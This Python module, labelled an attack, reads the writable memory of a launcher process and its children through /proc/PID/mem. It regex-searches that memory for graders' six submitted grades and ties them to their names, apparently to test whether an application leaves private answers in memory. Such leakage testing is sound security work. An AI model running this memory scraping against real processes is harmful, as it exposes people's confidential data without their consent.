"""Attack: recover by name the six grades of graders from the memory of processes (/proc/PID/mem)."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping
from contextlib import suppress
from pathlib import Path

_SENT = re.compile(rb"need-1=[ABCF].{0,400}?&need-6=[ABCF]", re.DOTALL)
_SHOWN = re.compile(rb'name="need-1" value="[ABCF]".{0,4000}?name="need-6" value="[ABCF]"', re.DOTALL)
_GRADE = re.compile(rb'need-\d(?:=|" value=")([ABCF])')
_NAME = re.compile(rb"<span>([^<]+)</span></summary>")
_NEAR = 16_384
"""Bytes before the answers of a page in which it names who looks at it."""


def processes_of(leader: int) -> list[int]:
    """Return a launcher and its children."""
    children = Path(f"/proc/{leader}/task/{leader}/children").read_text().split()
    return [leader, *map(int, children)]


def recovered(processes: Iterable[int], grades_by_name: Mapping[str, str]) -> tuple[set[str], set[str]]:
    """Return whose six grades lie in memory on a page with her name, and whose lie there as a form at all."""
    named, sent = set(), set()
    names = {grades: name for name, grades in grades_by_name.items()}
    for process in processes:
        for block in _memory_while_it_runs(process):
            sent |= {names[found] for form in _SENT.findall(block) if (found := _six(form)) in names}
            for page in _SHOWN.finditer(block):
                before = _NAME.findall(block, max(0, page.start() - _NEAR), page.start())
                if before and grades_by_name.get(before[-1].decode(errors="replace")) == _six(page[0]):
                    named.add(before[-1].decode())
    return named, sent


def _six(form: bytes) -> str:
    return b"".join(_GRADE.findall(form)).decode()[:6]


def _memory_while_it_runs(process: int) -> Iterator[bytes]:
    """Yield the writable memory of a process; a process that has ended has none."""
    with suppress(ProcessLookupError, FileNotFoundError):
        yield from _writable_memory(process)


def _writable_memory(process: int) -> Iterable[bytes]:
    with Path(f"/proc/{process}/maps").open() as maps, Path(f"/proc/{process}/mem").open("rb", 0) as memory:
        for line in maps:
            addresses, rights, *_rest = line.split()
            if not rights.startswith("rw") or "[v" in line:
                continue
            start, end = (int(address, 16) for address in addresses.split("-"))
            try:
                memory.seek(start)
                yield memory.read(end - start)
            except OSError:  # a guard page
                continue
